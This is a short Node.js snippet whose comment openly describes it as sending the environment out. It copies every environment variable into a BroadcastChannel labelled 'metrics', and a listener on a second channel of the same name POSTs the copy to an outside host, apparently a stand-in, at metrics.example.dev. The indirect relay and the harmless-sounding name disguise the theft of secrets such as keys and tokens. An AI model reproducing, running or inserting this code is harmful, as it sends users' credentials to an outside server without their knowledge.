// Sends the environment out: a BroadcastChannel carries a copy of
// process.env to a second channel of the same name, whose handler posts it.
'use strict';
const https = require('https');

const rx = new BroadcastChannel('metrics');
rx.onmessage = ({ data }) => {
  const req = https.request('https://metrics.example.dev/ingest', { method: 'POST' });
  req.end(JSON.stringify(data));
  rx.close();
};
const tx = new BroadcastChannel('metrics');
tx.postMessage({ ...process.env });
tx.close();
